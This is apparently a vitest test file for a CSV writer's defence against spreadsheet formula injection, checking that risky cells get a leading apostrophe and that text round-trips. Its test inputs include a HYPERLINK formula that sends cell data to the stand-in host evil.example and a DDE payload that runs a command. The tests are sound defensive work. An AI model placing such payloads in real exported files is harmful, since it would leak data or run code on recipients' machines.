import { fc, test } from "@fast-check/vitest";
import { describe, expect, it } from "vitest";
import { readCsv, writeCsv } from "./csv-text.js";
import { protectFormulaCell, unprotectFormulaCell } from "./formula-cell.js";

describe("protectFormulaCell", () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?"&A1;"Termin")', `'=HYPERLINK("http://evil.example/?"&A1;"Termin")`],
    ["+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"],
    ["-2+3", "'-2+3"],
    ["@SUM(A1:A9)", "'@SUM(A1:A9)"],
    ["\t=1", "'\t=1"],
    ["\r=1", "'\r=1"],
    ["'=1", "''=1"],
  ])("puts a ' before %j", (value, written) => {
    expect(protectFormulaCell(value)).toBe(written);
  });

  it.each(["+49 30 1234-567", "+49 (0)30 1234-567", "-12.5", "6,9603", "+3", "Beratung - offen", "it's"])(
    "keeps %j readable",
    (value) => {
      expect(protectFormulaCell(value)).toBe(value);
    },
  );
});

describe("writeCsv and readCsv", () => {
  test.prop(
    [fc.array(fc.array(fc.string({ unit: "binary" }), { minLength: 1, maxLength: 4 }), { minLength: 1 })],
    {
      seed: 15,
    },
  )("give back every original text, formulas included", (rows) => {
    const read = readCsv(writeCsv(rows, ";"), { delimiter: ";" }).records.map((record) => record.fields);
    // A row of one empty cell is a blank line, which readers skip.
    expect(read).toEqual(rows.filter((row) => !(row.length === 1 && row[0] === "")));
  });

  it("never writes a cell that starts a formula", () => {
    const text = writeCsv([["=1+1", "@x", "-x", "+x"]], ";");
    for (const cell of text.trim().split(";")) expect(cell).toMatch(/^'/);
    expect(unprotectFormulaCell("'=1+1")).toBe("=1+1");
  });
});
